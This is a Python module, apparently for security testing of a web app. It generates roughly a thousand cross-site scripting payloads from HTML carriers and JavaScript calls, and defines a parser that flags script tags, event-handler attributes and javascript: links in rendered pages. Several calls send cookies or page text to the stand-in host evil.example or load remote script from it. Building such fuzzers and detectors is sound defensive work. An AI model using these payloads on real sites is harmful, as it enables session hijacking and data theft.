"""A thousand texts that would run as scripts where a page lets them, for every place in it."""

from html.parser import HTMLParser
from itertools import product

_CALLS = (
    "alert(1)",
    "alert`1`",
    "(alert)(1)",
    "top['al'+'ert'](1)",
    "eval('alert(1)')",
    "setTimeout('alert(1)')",
    "confirm(1)",
    "prompt(1)",
    "print()",
    "location='//evil.example/'+document.cookie",
    "fetch('//evil.example/'+document.body.innerText)",
    "import('//evil.example/x.js')",
    "navigator.sendBeacon('//evil.example')",
    "document.body.append(document.createElement('script'))",
    "htmx.ajax('GET','//evil.example')",
    "opener.alert(1)",
    "parent.postMessage(document.cookie,'*')",
)
_CARRIERS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x0c>{}</script>",
    "<script type=module>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><script>{}</script>",
    "</template><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    "<IMG SRC=x ONERROR={}>",
    "<img src=x:x onerror\n=\n{}>",
    "<img/src=x/onerror={}>",
    '<img src="x`<script>{}</script>"` `>',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a href='javascript:{}'><text y=9>x</text></a></svg>",
    "<math><a href='javascript:{}'>x</a></math>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<marquee onstart={}>x</marquee>",
    "<div onpointerover={} style='position:fixed;inset:0'>x</div>",
    "<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={}>",
    "<a href='javascript:{}'>x</a>",
    "<a href='java&#9;script:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<base href='//evil.example/'><p id='{}'>",
    "<form action='javascript:{}'><button autofocus>x</button></form>",
    "<button form=x formaction='javascript:{}'>x</button>",
    "<div hx-on:load='{}' hx-trigger=load>x</div>",
    "<div hx-get=/ hx-trigger=load hx-vals='js:{{a:{}}}'>x</div>",
    "<div data-hx-on--after-request='{}' hx-get=/ hx-trigger=load>x</div>",
    '" onfocus={} autofocus x="',
    "' onfocus={} autofocus x='",
    '" onmouseover={} "',
    "` onerror={} `",
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u2028<script>{}</script>",
    "<!--<img src='--><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
PAYLOADS = tuple(carrier.format(call) for carrier, call in product(_CARRIERS, _CALLS))
_NEVER = {
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "marquee",
    "math",
    "video",
    "audio",
    "animate",
}
_LINKS = {"href", "src", "action", "formaction", "data", "xlink:href"}


class _Rogue(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in _NEVER or (tag == "script" and not given.get("src", "").startswith("/static/")):
            self.found.append(f"<{tag}>")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in given.items():
            if name.startswith(("on", "hx-on", "data-hx-on")) or name in {"style", "srcdoc"}:
                self.found.append(f"<{tag} {name}>")
            told = "".join(value.split()).lower()
            if name in _LINKS and told.startswith(("javascript:", "data:text", "//", "http")):
                self.found.append(f"<{tag} {name}={value[:30]}>")


def rogue(page: str) -> list[str]:
    """Return what of the page could run or lead elsewhere."""
    reader = _Rogue()
    reader.feed(page)
    return reader.found
